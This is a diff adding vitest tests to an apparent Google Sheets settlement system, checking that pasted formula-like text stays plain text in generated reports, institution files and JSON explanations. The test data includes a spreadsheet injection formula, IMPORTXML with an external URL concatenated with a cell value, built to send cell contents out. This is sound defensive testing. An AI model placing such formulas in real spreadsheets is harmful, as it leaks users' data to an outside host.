@@ -1,6 +1,7 @@
 import type { sheets_v4 } from 'googleapis/build/src/apis/sheets/index.js';
 import { expect, test } from 'vitest';
-import { paste } from '../../../desk/person.ts';
+import { makeFile, paste } from '../../../desk/person.ts';
+import { SERVICE_ACCOUNT } from '../../../desk/stack.ts';
 import { AREA, type Bureau, CLERK, MONTH, openBureau, REVIEWER } from '../runs/bureau.ts';
 import { twoConsortia } from '../runs/county.ts';
 import { type Meaning, renamed } from './renamed.ts';
@@ -111,6 +112,55 @@ test('a text that looks like a formula stays a text, from every column to every 
   const meanings = Object.keys(BEGINNINGS) as Meaning[];
   const kept = meanings.filter((meaning) => meaning !== 'case' && meaning !== 'person');
   expect(shown(inResults.texts, meanings)).toEqual(kept);
+});
+
+test('nor does one come to life in what is tried out, compared, or given to an institution', async () => {
+  const text = '+IMPORTXML("http://x.cn/"&A1,"//a")';
+  const county = twoConsortia().add('測算提案', '提案名稱,類別,對象,機構或等級,險種,新值,說明');
+  const bureau = await openBureau({ county });
+  const clerk = bureau.person(CLERK);
+  const { bureauFile } = bureau;
+  await paste(clerk, bureauFile, '機構!B2', [[text]], 'texts');
+  await paste(clerk, bureauFile, '測算提案!A2', [[text, '基準點數', 'GA', '', '', '150', text]], 'texts');
+  await bureau.closeMonth();
+  await bureau.press('settle', CLERK, { period: MONTH });
+  expect((await bureau.press('whatif', CLERK, { period: MONTH })).state).toBe('done');
+  const runs = { period: MONTH, first: '', second: '' };
+  expect((await bureau.press('contrast', CLERK, runs)).state).toBe('done');
+  expect((await bureau.press('forecast', CLERK, { period: MONTH })).state).toBe('done');
+  const written = await contents(bureau, bureauFile, '測算比較', '測算概要', '結算對比', '年度預測');
+  expect(formulas(written.cells)).toEqual([]);
+  expect(written.texts).toContain(text);
+  for (const action of ['dispute', 'pack']) {
+    const file = await makeFile(clerk, '機構文件', { [SERVICE_ACCOUNT]: 'writer' });
+    const run = await bureau.press(action, CLERK, { period: MONTH, institution: 'H1', file });
+    expect(run.state).toBe('done');
+    const own = await contents(bureau, file);
+    expect(formulas(own.cells)).toEqual([]);
+    expect(own.texts).toContain(text);
+  }
+});
+
+test('an explanation tells such texts as they are, as JSON, and writes nothing', async () => {
+  const bureau = await openBureau({ county: dangerous() });
+  const { runId } = await bureau.press('settle', CLERK, { period: MONTH });
+  const institution = `${BEGINNINGS.institution}H1`;
+  const before = bureau.state();
+  const whats = [
+    { institution, amount: 'due', fund: '居民' },
+    { consortium: `${BEGINNINGS.consortium}M1`, fund: '居民' },
+    { case: `${BEGINNINGS.case}C01` },
+    { cell: { tab: '機構結算', row: 6, column: 6 } },
+    { cell: { tab: '=1+1', row: 1, column: 1 } },
+  ];
+  for (const what of whats) {
+    const { status, type, text } = await bureau.call('explain', CLERK, { area: AREA, run: runId, what });
+    const known = !('cell' in what) || what.cell.tab === '機構結算';
+    expect([what, status]).toEqual([what, known ? 200 : 404]);
+    expect(type).toMatch(/^application\/(problem\+)?json/);
+    if (known) expect(text).toContain(JSON.stringify(institution).slice(1, -1));
+  }
+  expect(bureau.state()).toBe(before);
 });
 
 /** The first cell below the header of every column of texts. */
